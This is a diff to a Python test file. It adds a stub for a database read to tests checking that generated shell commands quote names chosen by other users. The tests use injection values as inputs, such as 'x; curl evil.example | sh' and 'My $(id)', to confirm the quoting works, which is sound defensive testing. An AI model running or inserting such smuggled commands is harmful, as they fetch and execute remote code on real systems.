@@ -3,6 +3,7 @@
 import json
 import re
 from dataclasses import fields
+from functools import partial
 from types import SimpleNamespace
 
 import pytest
@@ -143,6 +144,11 @@ def test_names_of_a_version_that_collide_are_not_used(values):
     assert book.names("heat") == WriteNames("heat")
 
 
+def _constraints(rows, statement, parameters=None, *, doing):
+    """Answer with unique properties, which all nodes have."""
+    return rows if "CONSTRAINTS" in statement else [{"lacks": False}]
+
+
 def test_a_command_in_a_message_quotes_names_that_others_chose():
     """Whoever may write to the database chooses them, and somebody else copies the command."""
     model = "x; curl evil.example | sh"
@@ -150,7 +156,7 @@ def test_a_command_in_a_message_quotes_names_that_others_chose():
     with pytest.raises(ProjectionError, match=re.escape(f"`heat clear --model '{model}'` removes")):
         book.published(model)
     rows = [{"label": label, "property": "id"} for label in ("My $(id)", "L" * 90, "Paper")]
-    connection = SimpleNamespace(read=lambda statement, doing: rows)
+    connection = SimpleNamespace(read=partial(_constraints, rows))
     (advice,) = key_advice(connection, Projection(), {row["label"] for row in rows})
     assert advice.endswith("unique here: --key 'My $(id)=id' --key Paper=id")
     rows[:] = [{"label": f"L{number}", "property": "id"} for number in range(9)]
@@ -160,6 +166,6 @@ def test_a_command_in_a_message_quotes_names_that_others_chose():
 
 def test_a_key_that_cannot_be_used_has_the_unique_ones_beside_it():
     rows = [{"label": "Paper", "property": "id"}]
-    connection, projection = SimpleNamespace(read=lambda statement, doing: rows), Projection(key="title")
+    connection, projection = SimpleNamespace(read=partial(_constraints, rows)), Projection(key="title")
     assert key_advice(connection, projection, {"Paper"}) == ()
     assert key_advice(connection, projection, {"Paper"}, is_wrong=True) == ("unique here: --key Paper=id",)
